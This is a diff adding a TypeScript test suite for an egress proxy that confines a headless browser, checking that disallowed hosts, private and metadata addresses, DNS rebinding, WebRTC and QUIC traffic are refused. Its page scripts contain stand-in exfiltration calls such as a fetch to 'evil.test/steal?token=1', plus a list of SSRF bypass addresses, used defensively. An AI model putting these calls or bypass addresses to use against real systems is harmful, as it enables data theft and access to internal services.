@@ -1,0 +1,343 @@
+import { startEgressProxy, type WorkerEgress, type Resolver } from '@pilothouse/infra-egress';
+import { parseHostRules, type EgressRules, type EgressPolicy, type Surface } from '@pilothouse/core';
+import { BrowserHost, createTrustingHome, type HostOptions } from '@pilothouse/surface-browser';
+import type { EgressBlock } from '@pilothouse/contract';
+import { createSocket, type Socket as Udp } from 'node:dgram';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { createServer, type RequestListener, type Server } from 'node:http';
+import { createServer as createTlsServer } from 'node:https';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { TLSSocket } from 'node:tls';
+import { WebSocketServer } from 'ws';
+import {
+  testAuthority,
+  untrustedKey,
+  key,
+  authoritySignedSite as issued,
+  chromiumTrustArgument,
+} from '../testing/test-certificates.fixture.ts';
+
+const log = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
+const context = () => ({ signal: new AbortController().signal, deadline: performance.now() + 20_000, log });
+
+/** What a page is: its script writes what came of it into the title. */
+const page = (script: string) => `<!doctype html><title>...</title><body><script type="module">
+  const told = (text) => { document.title = 'done: ' + text; };
+  ${script}
+</script>`;
+
+let site: Server;
+let port: number;
+let secure: Server;
+let securePort: number;
+let udp: Udp;
+let packets = 0;
+let folder: string;
+let script = '';
+const asked: string[] = [];
+/** Names under which the site was asked for by TLS. */
+const named: unknown[] = [];
+beforeAll(async () => {
+  const answers: RequestListener = ({ url = '', headers }, answer) => {
+    asked.push(`${headers.host}${url}`);
+    answer.setHeader('access-control-allow-origin', '*');
+    if (url.startsWith('/page')) answer.setHeader('content-type', 'text/html').end(page(script));
+    else answer.end('there');
+  };
+  site = createServer(answers);
+  secure = createTlsServer({ key, cert: untrustedKey }, answers);
+  secure.on('secureConnection', (socket: TLSSocket) => named.push(socket.servername));
+  for (const server of [site, secure]) {
+    new WebSocketServer({ server }).on('connection', (socket) => {
+      socket.on('message', (data) => socket.send(`echo ${String(data)}`));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  }
+  port = (site.address() as AddressInfo).port;
+  securePort = (secure.address() as AddressInfo).port;
+  udp = createSocket('udp4');
+  udp.on('message', () => (packets += 1));
+  await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
+  folder = await mkdtemp(join(tmpdir(), 'egress-'));
+});
+afterAll(async () => {
+  site.close();
+  secure.close();
+  udp.close();
+  await rm(folder, { recursive: true, force: true });
+});
+
+const closing: (() => Promise<unknown>)[] = [];
+afterEach(async () => {
+  for (const close of closing.splice(0).reverse()) await close();
+});
+beforeEach(() => {
+  asked.length = 0;
+  named.length = 0;
+  packets = 0;
+});
+
+interface Opened {
+  readonly surface: Surface;
+  readonly refused: EgressBlock[];
+  readonly pass: EgressPolicy;
+}
+
+/** A surface behind a gate; names are all at this machine unless said otherwise. */
+async function open(
+  rules: Partial<EgressRules>,
+  resolve: Resolver = async () => ['127.0.0.1'],
+  launch: Pick<HostOptions, 'args' | 'environment'> = {},
+): Promise<Opened> {
+  const egress: WorkerEgress = startEgressProxy({ resolve });
+  const host = new BrowserHost({ egress, ...launch });
+  closing.push(
+    () => egress.close(),
+    () => host.close(),
+  );
+  await host.warm(context());
+  const refused: EgressBlock[] = [];
+  const pass: EgressPolicy = {
+    rules: { lists: [], private: parseHostRules(['private']), ...rules },
+    upstream: async () => null,
+    signal: new AbortController().signal,
+    mayAct: () => true,
+    untilMayAct: async () => undefined,
+    onRefused: (refusal) => refused.push(refusal),
+    onFailed: () => {},
+  };
+  return { surface: await host.open({ folder, egress: pass }, context()), refused, pass };
+}
+
+const act = () => ({
+  ...context(),
+  guard: () => {},
+  reveal: async (text: string) => text,
+  file: async (name: string) => name,
+});
+const go = (surface: Surface, url: string) => surface.act({ action: 'navigate', url }, act());
+
+/** Opens a page with a script, and what the script told. */
+async function told({ surface }: Opened, text: string, origin = `http://shop.test:${port}`): Promise<string> {
+  script = text;
+  await go(surface, `${origin}/page`);
+  await surface.expect({ title: 'done: ' }, context());
+  return (await surface.anchors(context())).title.slice('done: '.length);
+}
+
+const list = (...patterns: string[]) => ({ lists: [{ by: 'project' as const, rules: parseHostRules(patterns) }] });
+
+test('a page of an allowed host opens; frames, fetches and sockets elsewhere are refused and told', async () => {
+  const opened = await open(list('shop.test'));
+  const got = await told(
+    opened,
+    `const tried = await Promise.all([
+       fetch('http://shop.test:${port}/data').then((r) => r.text(), () => 'refused'),
+       fetch('http://evil.test:${port}/steal?token=1').then((r) => r.text(), () => 'refused'),
+       new Promise((resolve) => {
+         const socket = new WebSocket('ws://shop.test:${port}/');
+         socket.onopen = () => socket.send('hi');
+         socket.onmessage = ({ data }) => resolve(data);
+         socket.onerror = () => resolve('refused');
+       }),
+       new Promise((resolve) => {
+         const socket = new WebSocket('ws://evil.test:${port}/');
+         socket.onopen = () => resolve('open');
+         socket.onerror = () => resolve('refused');
+       }),
+     ]);
+     told(tried.join());`,
+  );
+  expect(got).toBe('there,refused,echo hi,refused');
+  expect(new Set(opened.refused.map(({ host, rule }) => `${host} ${rule}`))).toEqual(new Set(['evil.test project']));
+  expect(asked.every((one) => one.startsWith('shop.test:'))).toBe(true);
+});
+
+describe('over TLS', () => {
+  /** Hosts whose address the gate asked for: those it was told to make a tunnel to, and lets through. */
+  const lookedUp = () => {
+    const hosts: string[] = [];
+    const resolve: Resolver = async (host) => {
+      hosts.push(host);
+      return ['127.0.0.1'];
+    };
+    return { hosts, resolve };
+  };
+
+  test('a page comes through a tunnel of the gate, which looks at the host of each', async () => {
+    const { hosts, resolve } = lookedUp();
+    const opened = await open(list('shop.test'), resolve, { args: [chromiumTrustArgument()] });
+    const got = await told(
+      opened,
+      `const of = (url) => fetch(url).then((r) => r.text(), () => 'refused');
+       const socket = (url) => new Promise((resolve) => {
+         const one = new WebSocket(url);
+         one.onopen = () => one.send('hi');
+         one.onmessage = ({ data }) => resolve(data);
+         one.onerror = () => resolve('refused');
+       });
+       told((await Promise.all([
+         of('/data'), socket('wss://shop.test:${securePort}/'),
+         of('https://evil.test:${securePort}/steal?token=1'), socket('wss://evil.test:${securePort}/'),
+       ])).join());`,
+      `https://shop.test:${securePort}`,
+    );
+    expect(got).toBe('there,echo hi,refused,refused');
+    expect(asked).toContain(`shop.test:${securePort}/data`);
+    expect(asked.every((one) => one.startsWith(`shop.test:${securePort}/`))).toBe(true);
+    expect(new Set(named)).toEqual(new Set(['shop.test']));
+    expect(new Set(hosts)).toEqual(new Set(['shop.test']));
+    // Of what is inside a tunnel the gate knows nothing: where it would have led is all that is told.
+    const refusals = opened.refused.map(({ host, port: at, rule }) => `${host}:${at} ${rule}`);
+    expect(new Set(refusals)).toEqual(new Set([`evil.test:${securePort} project`]));
+    expect(JSON.stringify(opened.refused)).not.toContain('token');
+  });
+
+  test('the certificate is for the browser to judge: one that nobody trusts opens no page', async () => {
+    const { hosts, resolve } = lookedUp();
+    const { surface, refused } = await open(list('shop.test'), resolve);
+    const going = go(surface, `https://shop.test:${securePort}/page`);
+    await expect(going).rejects.toMatchObject({
+      code: 'NAVIGATION_FAILED',
+      message: expect.stringContaining('ERR_CERT_AUTHORITY_INVALID'),
+    });
+    expect(new Set(hosts)).toEqual(new Set(['shop.test']));
+    expect(asked).toEqual([]);
+    // Chromium looks whether a portal for logging in is in between, by the same way as the page.
+    expect(refused.filter(({ host }) => host !== 'connectivitycheck.gstatic.com')).toEqual([]);
+  });
+});
+
+describe('an authority of one’s own', () => {
+  const childEnvironment = { PATH: process.env.PATH ?? '' };
+  const trustIn = async (...authorities: string[]) => {
+    const home = await mkdtemp(join(folder, 'home-'));
+    return {
+      ...childEnvironment,
+      HOME: await createTrustingHome({ authorities, folder: home, environment: childEnvironment }),
+    };
+  };
+
+  test('opens the sites that it stands for, and no others', async () => {
+    const inside = createTlsServer(issued, (_asked, answer) => answer.end('<title>Inside</title>'));
+    await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve));
+    closing.push(async () => inside.close());
+    const { port: insidePort } = inside.address() as AddressInfo;
+    const { surface } = await open({}, undefined, { environment: await trustIn(testAuthority) });
+    await go(surface, `https://intranet.test:${insidePort}/`);
+    expect((await surface.anchors(context())).title).toBe('Inside');
+    for (const other of [`shop.test:${securePort}`, `other.test:${insidePort}`]) {
+      await expect(go(surface, `https://${other}/`)).rejects.toMatchObject({
+        message: expect.stringContaining('ERR_CERT'),
+      });
+    }
+  });
+
+  test('may be the certificate of the site itself, one of several', async () => {
+    const { surface } = await open({}, undefined, { environment: await trustIn(testAuthority, untrustedKey) });
+    script = '';
+    await go(surface, `https://shop.test:${securePort}/page`);
+    expect(asked).toContain(`shop.test:${securePort}/page`);
+  });
+
+  test('says what is missing where it cannot be trusted', async () => {
+    const given = { authorities: [testAuthority], folder: join(folder, 'nobody'), environment: { PATH: '/nowhere' } };
+    await expect(createTrustingHome(given)).rejects.toMatchObject({
+      code: 'SURFACE_UNAVAILABLE',
+      message: expect.stringContaining('apt-get install libnss3-tools'),
+    });
+  });
+});
+
+test('the browser asks nobody what the fields of a form are', async () => {
+  const opened = await open(list('shop.test'));
+  const got = await told(
+    opened,
+    `document.body.innerHTML = '<form><input name=user><input name=pw type=password><input name=email type=email></form>';
+     document.querySelector('input').focus();
+     // It would be asked once the form was looked at: in a later frame.
+     for (let frames = 0; frames < 60; frames += 1) await new Promise(requestAnimationFrame);
+     told('done');`,
+  );
+  expect(got).toBe('done');
+  expect(opened.refused).toEqual([]);
+});
+
+test('opening a refused page fails', async () => {
+  const { surface, refused } = await open(list('shop.test'));
+  await expect(go(surface, `http://evil.test:${port}/page`)).rejects.toMatchObject({ code: 'NAVIGATION_FAILED' });
+  await expect(go(surface, `https://evil.test:${port}/page`)).rejects.toMatchObject({ code: 'NAVIGATION_FAILED' });
+  expect(new Set(refused.map(({ host, port: at, rule }) => `${host} ${at === port} ${rule}`))).toEqual(
+    new Set(['evil.test true project']),
+  );
+  expect(asked).toEqual([]);
+});
+
+test.each(['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '2130706433', '169.254.169.254', '[::ffff:127.0.0.1]'])(
+  'the browser does not go to %s past the proxy',
+  async (host) => {
+    const { surface, refused } = await open({ private: [] });
+    await expect(go(surface, `http://${host}:${port}/page`)).rejects.toMatchObject({ code: 'NAVIGATION_FAILED' });
+    expect(refused[0]).toMatchObject({ port, rule: 'private-address' });
+    expect(asked).toEqual([]);
+  },
+);
+
+test('a page whose name is bound anew to this machine reaches nothing there', async () => {
+  let times = 0;
+  // The page itself is let through as if it were on the internet; the second answer is inside.
+  const resolve: Resolver = async (host) => (host === 'sub.rebind.test' && times++ > 0 ? ['127.0.0.1'] : ['127.0.0.2']);
+  const outside = createServer((_asked, answer) => {
+    answer.setHeader('content-type', 'text/html').setHeader('connection', 'close').end(page(script));
+  });
+  await new Promise<void>((done) => outside.listen(port, '127.0.0.2', done));
+  closing.push(async () => outside.close());
+  const opened = await open({ private: parseHostRules(['127.0.0.2']) }, resolve);
+  expect(
+    await told(
+      opened,
+      `const tries = [];
+       for (let i = 0; i < 5; i += 1) tries.push(await fetch('/inside?' + i).then((r) => r.text(), () => 'refused'));
+       told(String(tries.some((text) => text === 'there')));`,
+      `http://sub.rebind.test:${port}`,
+    ),
+  ).toBe('false');
+  expect(asked).toEqual([]);
+});
+
+test('no packet leaves past the proxy: neither WebRTC nor QUIC', async () => {
+  const opened = await open({});
+  const stun = udp.address().port;
+  const got = await told(
+    opened,
+    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }, { urls: 'stun:localhost:${stun}' }] });
+     const found = [];
+     peer.onicecandidate = ({ candidate }) => { if (candidate?.candidate) found.push(candidate.candidate); };
+     peer.createDataChannel('x');
+     await peer.setLocalDescription(await peer.createOffer());
+     await new Promise((resolve) => {
+       peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
+       setTimeout(resolve, 4000);
+     });
+     let quic = 'none';
+     if (globalThis.WebTransport) quic = await new WebTransport('https://127.0.0.1:${stun}/').ready.then(() => 'open', () => 'refused');
+     told([found.filter((text) => / udp /i.test(text)).length, quic].join());`,
+    `http://localhost:${port}`,
+  );
+  expect(got).toMatch(/^0,(refused|none)$/);
+  expect(packets).toBe(0);
+});
+
+test('a surface without rules reaches nothing, and its gate is gone with it', async () => {
+  const egress = startEgressProxy({ resolve: async () => ['127.0.0.1'] });
+  const host = new BrowserHost({ egress });
+  closing.push(
+    () => egress.close(),
+    () => host.close(),
+  );
+  const surface = await host.open({ folder }, context());
+  await expect(go(surface, `http://shop.test:${port}/page`)).rejects.toMatchObject({ code: 'NAVIGATION_FAILED' });
+  expect(asked).toEqual([]);
+});
